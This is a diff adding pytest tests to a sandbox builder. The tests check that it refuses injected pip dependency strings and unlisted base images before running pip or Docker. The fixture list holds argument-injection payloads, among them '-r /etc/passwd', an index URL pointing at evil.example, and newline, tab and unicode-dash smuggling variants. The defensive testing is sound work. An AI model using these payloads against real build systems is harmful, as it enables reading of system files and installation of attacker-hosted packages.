@@ -169,3 +169,129 @@ def test_a_sandbox_with_a_compiled_dependency_builds_and_runs_it(
         remove=True, network_mode="none",
     )  # fmt: skip
     assert output.decode().split() == ["[1,2]", "True"]
+
+
+ATTACKER_REQUIREMENTS = [
+    " -r /etc/passwd",
+    "--log=/tmp/jazzmine-pwned",
+    "-rrequirements.txt",
+    "numpy --index-url http://evil.example/simple",
+    "numpy;--log x",
+    "numpy\t-r /etc/passwd",
+    "numpy\n-r /etc/passwd",
+    "\u2010r /etc/passwd",
+    "pkg @ file:///etc",
+    "../evil",
+    "x==1 -i http://y",
+    "git+https://example.com/x.git",
+    "evil.whl",
+    "-e .",
+    "--find-links=/tmp",
+]
+
+
+class _NoEngine:
+    """A Docker client that fails the test on any use: refusals come before the engine."""
+
+    def __getattr__(self, name: str):
+        raise AssertionError(f"the builder touched the engine ({name}) before refusing")
+
+
+def _forbid_pip(monkeypatch) -> list[list[str]]:
+    calls: list[list[str]] = []
+
+    def popen(command, *args, **kwargs):
+        calls.append(list(command))
+        raise AssertionError(f"pip ran: {command}")
+
+    monkeypatch.setattr("jazzmine.sandbox.wheels.subprocess.Popen", popen)
+    return calls
+
+
+@pytest.mark.parametrize("bad", ATTACKER_REQUIREMENTS)
+def test_the_builder_refuses_a_dependency_that_is_not_a_requirement_without_running_pip(
+    bad, tmp_path, monkeypatch
+):
+    calls = _forbid_pip(monkeypatch)
+    registry = ToolRegistry()
+    # The core registry is not the wall: the builder must be one on its own.
+    registry.register_sandbox(SandboxConfig(name="victim", dependencies=["httpx", bad]))
+    builder = SandboxBuilder(registry, client=_NoEngine(), cache_dir=tmp_path)
+    with pytest.raises(BuildError, match="not a plain requirement"):
+        builder.stage("victim", tmp_path / "runtime")
+    assert calls == []
+    assert not (tmp_path / "jazzmine-pwned").exists()
+
+
+def test_pip_gets_the_requirements_after_a_double_dash_and_the_operators_indexes(
+    tmp_path, monkeypatch
+):
+    from jazzmine.sandbox.wheels import PipIndexes, download_wheels
+
+    seen: dict[str, object] = {}
+
+    def popen(command, *args, **kwargs):
+        seen["command"], seen["cwd"] = list(command), kwargs.get("cwd")
+        raise RuntimeError("stop before pip runs")
+
+    monkeypatch.setattr("jazzmine.sandbox.wheels.subprocess.Popen", popen)
+    indexes = PipIndexes(index_url="https://pypi.internal/simple")
+    with pytest.raises(RuntimeError):
+        download_wheels(["numpy>=1,<2"], tmp_path, print, indexes=indexes)
+    command = seen["command"]
+    assert command[-2:] == ["--", "numpy>=1,<2"]
+    assert command[command.index("--index-url") + 1] == "https://pypi.internal/simple"
+    assert command.index("--index-url") < command.index("--")
+    assert seen["cwd"] is not None  # an empty directory: no file there reads as a requirement
+
+
+@pytest.mark.parametrize(
+    "image", ["jazzmine/sandbox-other-team:0123456789abcdef-12345678", "registry.evil.io/x:1"]
+)
+def test_the_builder_refuses_a_base_image_the_operator_did_not_list(image, tmp_path):
+    from jazzmine.sandbox.builder import BuildPolicy
+
+    registry = ToolRegistry()
+    registry.register_sandbox(SandboxConfig(name="victim", base_image=image))
+    builder = SandboxBuilder(registry, client=_NoEngine(), cache_dir=tmp_path, policy=BuildPolicy())
+    with pytest.raises(BuildError, match="not on the operator's list"):
+        builder.ensure_image("victim")
+    with pytest.raises(BuildError, match="not on the operator's list"):
+        builder.wheel_target(image)
+
+
+def test_the_base_image_script_pulls_only_when_the_operator_allows(tmp_path, monkeypatch):
+    from jazzmine.sandbox.builder import BuildPolicy
+
+    seen: dict[str, object] = {}
+
+    class Missing:
+        class images:
+            @staticmethod
+            def get(tag):
+                raise docker.errors.ImageNotFound(tag)
+
+    def popen(command, *args, **kwargs):
+        seen["env"] = kwargs.get("env") or {}
+        raise RuntimeError("stop before the script runs")
+
+    monkeypatch.setattr("jazzmine.sandbox.builder.subprocess.Popen", popen)
+    registry = ToolRegistry()
+    builder = SandboxBuilder(registry, client=Missing(), cache_dir=tmp_path, policy=BuildPolicy())
+    with pytest.raises(RuntimeError):
+        builder._ensure_base("jazzmine/base:bookworm", print)
+    assert seen["env"]["JAZZMINE_BASE_IMAGE_PULL"] == "0"
+
+
+def test_the_build_policy_reads_the_operators_environment(monkeypatch):
+    from jazzmine.sandbox.builder import BuildPolicy
+
+    monkeypatch.setenv("JAZZMINE_BASE_IMAGES", "jazzmine/base:bookworm, corp/python:3.11")
+    monkeypatch.setenv("JAZZMINE_BASE_IMAGE_PULL", "true")
+    monkeypatch.setenv("JAZZMINE_PIP_EXTRA_INDEX_URLS", "https://a/simple,https://b/simple")
+    policy = BuildPolicy.from_env()
+    assert policy.base_images == ("jazzmine/base:bookworm", "corp/python:3.11")
+    assert policy.allow_pull is True
+    assert policy.indexes.pip_args() == [
+        "--extra-index-url", "https://a/simple", "--extra-index-url", "https://b/simple",
+    ]  # fmt: skip
